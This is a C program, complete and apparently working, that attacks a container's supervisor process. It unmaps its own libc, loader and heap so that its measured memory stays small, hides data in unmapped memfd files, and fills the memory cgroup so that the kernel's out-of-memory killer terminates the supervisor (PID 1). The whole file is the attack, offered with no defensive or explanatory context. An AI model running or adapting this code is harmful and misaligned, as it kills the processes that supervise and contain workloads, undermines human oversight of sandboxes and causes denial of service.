/* Makes its own RSS smaller than the supervisor's (unmaps libc, keeps data in
 * unmapped memfds), then fills the container's memory cgroup: the OOM killer
 * picks the process with the largest RSS, the supervisor (PID 1). */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <fcntl.h>
#include <unistd.h>

static inline long sc(long n, long a, long b, long c, long d) {
    long ret;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
}
#define NF 60
static int fds[NF];
static unsigned long lo[64], hi[64];
static int nmap;

__attribute__((noinline, noreturn)) static void attack(void) {
    for (int i = 0; i < nmap; i++) sc(SYS_munmap, lo[i], hi[i] - lo[i], 0, 0);
    for (int f = 0; f < NF; f++)
        for (long off = 0; off < (32L << 20); off += (4L << 20))
            sc(SYS_fallocate, fds[f], 0, off, 4L << 20);
    for (;;) sc(SYS_exit_group, 0, 0, 0, 0);
}

int main(void) {
    for (int f = 0; f < NF; f++) fds[f] = memfd_create("m", 0);
    FILE *m = fopen("/proc/self/maps", "r"); /* may be refused: attack anyway */
    char line[512];
    while (m && fgets(line, sizeof line, m) && nmap < 64) {
        unsigned long a, b;
        if (sscanf(line, "%lx-%lx", &a, &b) != 2) continue;
        if (strstr(line, "libc") || strstr(line, "ld-linux") || strstr(line, "[heap]") || strstr(line, "[vvar]")) { lo[nmap] = a; hi[nmap] = b; nmap++; }
    }
    if (m) fclose(m);
    fflush(stdout);
    attack();
}
